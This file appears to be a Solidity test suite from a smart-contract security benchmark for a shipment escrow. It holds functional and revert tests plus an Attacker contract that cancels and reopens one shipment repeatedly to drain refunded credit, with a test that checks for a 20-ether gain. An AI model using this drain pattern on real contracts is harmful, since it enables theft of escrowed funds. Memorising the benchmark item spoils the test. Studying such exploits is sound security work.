// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./ShipmentEscrow.sol";
import {CarrierRegistry} from "./context/CarrierRegistry.sol";
import {AccessControl} from "@openzeppelin/contracts@5.4.0/access/AccessControl.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-56e278d1-1c34-48db-86bf-4be98c039da9

interface Vm {
    function deal(address who, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

/// Posts one shipment and cancels it again and again.
contract Attacker {
    ShipmentEscrow private escrow;

    constructor(ShipmentEscrow escrow_) {
        escrow = escrow_;
    }

    receive() external payable {}

    function run() external {
        uint256 id = escrow.post{value: 4 ether}(address(this), 20, 1 days);
        escrow.cancel(id);
        for (uint256 i = 0; i < 5; ++i) {
            escrow.reopen(id, 1 days);
            escrow.cancel(id);
        }
        escrow.withdrawCredit(payable(address(this)));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_780_000_000;
    address internal constant IDA = address(0x1DA);
    address internal constant OLE = address(0x01E);
    address internal constant SHOP = address(0x5409);
    address internal constant TREASURY = address(0x7EA);
    address internal constant OTHER = address(0x0789);

    CarrierRegistry internal registry;
    ShipmentEscrow internal escrow;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        registry = new CarrierRegistry(address(this));
        registry.add(OLE);
        escrow = new ShipmentEscrow(registry, address(this), 100, TREASURY);
        mallory = new Attacker(escrow);
        vm.deal(address(mallory), 4 ether);
        vm.deal(IDA, 40 ether);
        vm.deal(OLE, 10 ether);
        vm.startPrank(IDA);
        escrow.post{value: 10 ether}(SHOP, 60, 20 days);
        escrow.post{value: 10 ether}(SHOP, 60, 20 days);
        vm.stopPrank();
    }

    function _accept(uint256 id, uint256 bond) private {
        vm.prank(OLE);
        escrow.accept{value: bond}(id);
    }

    function test_Regular() public {
        require(escrow.shipmentCount() == 2 && escrow.shipmentsOf(IDA)[1] == 1, "posted");
        _accept(0, 2.5 ether);
        vm.prank(OLE);
        escrow.giveBack(0);
        require(escrow.creditOf(IDA) == 0.25 ether && escrow.creditOf(OLE) == 2.25 ether, "given back");
        vm.prank(IDA);
        escrow.reopen(0, 5 days);
        require(escrow.shipment(0).dueBy == START + 5 days, "opened again");
        vm.prank(IDA);
        escrow.raiseFreight{value: 2 ether}(0);
        _accept(0, 3 ether);
        vm.prank(SHOP);
        escrow.confirm(0);
        require(escrow.creditOf(TREASURY) == 0.12 ether, "fee");
        vm.startPrank(OLE);
        require(escrow.withdrawCredit(payable(OTHER)) == 17.13 ether && OTHER.balance == 17.13 ether, "delivered");
        vm.stopPrank();

        _accept(1, 2.5 ether);
        vm.warp(START + 20 days);
        require(escrow.isOverdue(1) && !escrow.isOverdue(0), "overdue");
        vm.prank(IDA);
        escrow.claimDefault(1);
        require(escrow.creditOf(IDA) == 12.75 ether, "defaulted");
        _disputes();
        vm.startPrank(IDA);
        uint256 id = escrow.post{value: 1 ether}(SHOP, 5, 1 days);
        escrow.cancel(id);
        require(escrow.shipment(id).stage == ShipmentEscrow.Stage.Canceled && escrow.shipmentCount() == 5, "canceled");
        escrow.withdrawCredit(payable(IDA));
        vm.stopPrank();
        vm.prank(OLE);
        escrow.withdrawCredit(payable(OLE));
        vm.prank(TREASURY);
        escrow.withdrawCredit(payable(TREASURY));
        require(address(escrow).balance == 0, "books");
        _settings();
    }

    // One dispute is resolved, one runs out.
    function _disputes() private {
        vm.startPrank(IDA);
        uint256 id = escrow.post{value: 4 ether}(SHOP, 5, 10 days);
        escrow.post{value: 2 ether}(SHOP, 5, 10 days);
        vm.stopPrank();
        vm.startPrank(OLE);
        escrow.accept{value: 1 ether}(id);
        escrow.accept{value: 0.5 ether}(id + 1);
        escrow.dispute(id);
        escrow.dispute(id + 1);
        vm.stopPrank();
        uint256 credit = escrow.creditOf(IDA);
        escrow.resolve(id, 6_000);
        require(escrow.creditOf(OLE) == 3 ether && escrow.creditOf(IDA) == credit + 2 ether, "divided");
        vm.warp(block.timestamp + 30 days);
        escrow.expireDispute(id + 1);
        require(escrow.creditOf(OLE) == 3.5 ether && escrow.creditOf(IDA) == credit + 4 ether, "as before");
    }

    function _settings() private {
        escrow.setFee(300, OTHER);
        escrow.pause();
        require(escrow.paused() && escrow.feeBps() == 300 && escrow.treasury() == OTHER, "set");
        escrow.unpause();
        registry.add(OTHER);
        registry.remove(OLE);
        require(registry.carriers().length == 1 && registry.isActive(OTHER) && !registry.isActive(OLE), "registered");
        _roles(escrow, escrow.ARBITER_ROLE());
        _roles(registry, registry.REGISTRAR_ROLE());
    }

    function _roles(AccessControl on, bytes32 role) private {
        on.grantRole(role, IDA);
        on.grantRole(role, OLE);
        on.revokeRole(role, IDA);
        vm.prank(OLE);
        on.renounceRole(role, OLE);
        require(!on.hasRole(role, IDA) && !on.hasRole(role, OLE), "roles");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function _without(bytes32 role) private {
        refuses(IDA, abi.encodeWithSignature("AccessControlUnauthorizedAccount(address,bytes32)", IDA, role));
    }

    function test_RefusesStrangers() public {
        bytes32 operator = escrow.OPERATOR_ROLE();
        bytes32 guardian = escrow.GUARDIAN_ROLE();
        bytes32 arbiter = escrow.ARBITER_ROLE();
        bytes32 registrar = registry.REGISTRAR_ROLE();
        _without(operator);
        escrow.setFee(0, IDA);
        _without(guardian);
        escrow.pause();
        escrow.pause();
        _without(operator);
        escrow.unpause();
        _disputed();
        _without(arbiter);
        escrow.resolve(0, 0);
        _without(registrar);
        registry.add(IDA);
        _without(registrar);
        registry.remove(OLE);
        _without(0);
        escrow.grantRole(arbiter, IDA);
        _without(0);
        escrow.revokeRole(arbiter, address(this));
        refuses(IDA, abi.encodeWithSignature("AccessControlBadConfirmation()"));
        escrow.renounceRole(arbiter, address(this));
    }

    // The first shipment is disputed.
    function _disputed() private {
        if (escrow.paused()) escrow.unpause();
        _accept(0, 2.5 ether);
        vm.prank(OLE);
        escrow.dispute(0);
    }

    function test_RefusesSetups() public {
        vm.expectRevert("ShipmentEscrow: zero registry");
        new ShipmentEscrow(ICarrierRegistry(address(0)), address(this), 100, TREASURY);
        vm.expectRevert("EscrowAccess: zero admin");
        new ShipmentEscrow(registry, address(0), 100, TREASURY);
        vm.expectRevert("EscrowAccess: fee too high");
        new ShipmentEscrow(registry, address(this), 301, TREASURY);
        vm.expectRevert("EscrowAccess: zero treasury");
        escrow.setFee(1, address(0));
        vm.expectRevert("CarrierRegistry: zero admin");
        new CarrierRegistry(address(0));
        vm.expectRevert("CarrierRegistry: already added");
        registry.add(OLE);
        vm.expectRevert("CarrierRegistry: not a carrier");
        registry.remove(IDA);
    }

    /// Shipments have a freight, a weight, a consignee and a term.
    function test_RefusesShipments() public {
        vm.startPrank(IDA);
        vm.expectRevert("ShipmentEscrow: freight too low");
        escrow.post{value: 0.001 ether - 1}(SHOP, 1, 1 days);
        vm.expectRevert("ShipmentEscrow: bad shipment");
        escrow.post{value: 1 ether}(address(0), 1, 1 days);
        vm.expectRevert("ShipmentEscrow: bad shipment");
        escrow.post{value: 1 ether}(SHOP, 0, 1 days);
        vm.expectRevert("ShipmentEscrow: bad term");
        escrow.post{value: 1 ether}(SHOP, 1, 0);
        vm.expectRevert("ShipmentEscrow: bad term");
        escrow.post{value: 1 ether}(SHOP, 1, 60 days + 1);
        vm.expectRevert("ShipmentEscrow: nothing added");
        escrow.raiseFreight(0);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        _accept(0, 2.5 ether);
        vm.prank(OLE);
        escrow.giveBack(0);
        escrow.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        escrow.pause();
        vm.startPrank(IDA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        escrow.post{value: 1 ether}(SHOP, 1, 1 days);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        escrow.reopen(0, 1 days);
        vm.stopPrank();
        refuses(OLE, abi.encodeWithSelector(Pausable.EnforcedPause.selector));
        escrow.accept{value: 2.5 ether}(1);
        vm.prank(IDA);
        escrow.cancel(0);
    }

    /// Each step at its stage.
    function test_RefusesStages() public {
        bytes memory why = "ShipmentEscrow: wrong stage";
        refuses(address(0), why);
        escrow.giveBack(0);
        refuses(address(0), why);
        escrow.dispute(0);
        refuses(SHOP, why);
        escrow.confirm(0);
        vm.expectRevert(why);
        escrow.resolve(0, 0);
        vm.expectRevert(why);
        escrow.expireDispute(0);
        refuses(IDA, why);
        escrow.claimDefault(0);
        refuses(IDA, why);
        escrow.reopen(0, 1 days);
        _accept(0, 2.5 ether);
        refuses(OLE, why);
        escrow.accept{value: 2.5 ether}(0);
        refuses(IDA, why);
        escrow.raiseFreight{value: 1 ether}(0);
        refuses(IDA, why);
        escrow.cancel(0);
        refuses(IDA, why);
        escrow.reopen(0, 1 days);
        vm.prank(SHOP);
        escrow.confirm(0);
        refuses(SHOP, why);
        escrow.confirm(0);
    }

    /// Each step by whom it concerns.
    function test_RefusesCallers() public {
        refuses(OLE, "ShipmentEscrow: not the shipper");
        escrow.raiseFreight{value: 1 ether}(0);
        refuses(OLE, "ShipmentEscrow: not the shipper");
        escrow.cancel(0);
        vm.deal(IDA, 20 ether);
        refuses(IDA, "ShipmentEscrow: not registered");
        escrow.accept{value: 2.5 ether}(0);
        refuses(OLE, "ShipmentEscrow: wrong bond");
        escrow.accept{value: 2.5 ether - 1}(0);
        _accept(0, 2.5 ether);
        refuses(IDA, "ShipmentEscrow: not the carrier");
        escrow.giveBack(0);
        refuses(IDA, "ShipmentEscrow: not the carrier");
        escrow.dispute(0);
        refuses(IDA, "ShipmentEscrow: not the consignee");
        escrow.confirm(0);
        vm.prank(OLE);
        escrow.giveBack(0);
        refuses(OLE, "ShipmentEscrow: not the shipper");
        escrow.reopen(0, 1 days);
    }

    /// Each step in time.
    function test_RefusesTimes() public {
        _accept(0, 2.5 ether);
        vm.warp(START + 20 days - 1);
        refuses(IDA, "ShipmentEscrow: too early");
        escrow.claimDefault(0);
        vm.warp(START + 20 days);
        refuses(OLE, "ShipmentEscrow: not the shipper");
        escrow.claimDefault(0);
        refuses(OLE, "ShipmentEscrow: overdue");
        escrow.giveBack(0);
        refuses(OLE, "ShipmentEscrow: overdue");
        escrow.dispute(0);
        refuses(OLE, "ShipmentEscrow: overdue");
        escrow.accept{value: 2.5 ether}(1);
    }

    function test_RefusesDisputes() public {
        _disputed();
        vm.expectRevert("ShipmentEscrow: more than all");
        escrow.resolve(0, 10_001);
        vm.warp(START + 30 days - 1);
        vm.expectRevert("ShipmentEscrow: too early");
        escrow.expireDispute(0);
        vm.prank(SHOP);
        escrow.confirm(0);
        require(escrow.creditOf(OLE) == 12.4 ether, "confirmed after all");
    }

    function test_RefusesPayments() public {
        refuses(IDA, "CreditBook: no credit");
        escrow.withdrawCredit(payable(IDA));
        vm.prank(IDA);
        escrow.cancel(0);
        refuses(IDA, "CreditBook: zero receiver");
        escrow.withdrawCredit(payable(address(0)));
        vm.prank(IDA);
        vm.expectRevert();
        escrow.withdrawCredit(payable(address(registry)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 20 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
